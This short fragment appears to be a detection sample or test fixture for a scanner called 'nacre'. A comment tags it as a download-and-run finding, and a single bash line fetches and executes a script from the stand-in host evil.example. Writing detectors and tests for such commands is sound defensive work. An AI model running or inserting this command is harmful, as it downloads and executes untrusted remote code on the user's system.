# nacre: found process.download-and-run
bash -c "$(wget -qO- https://evil.example/x)"
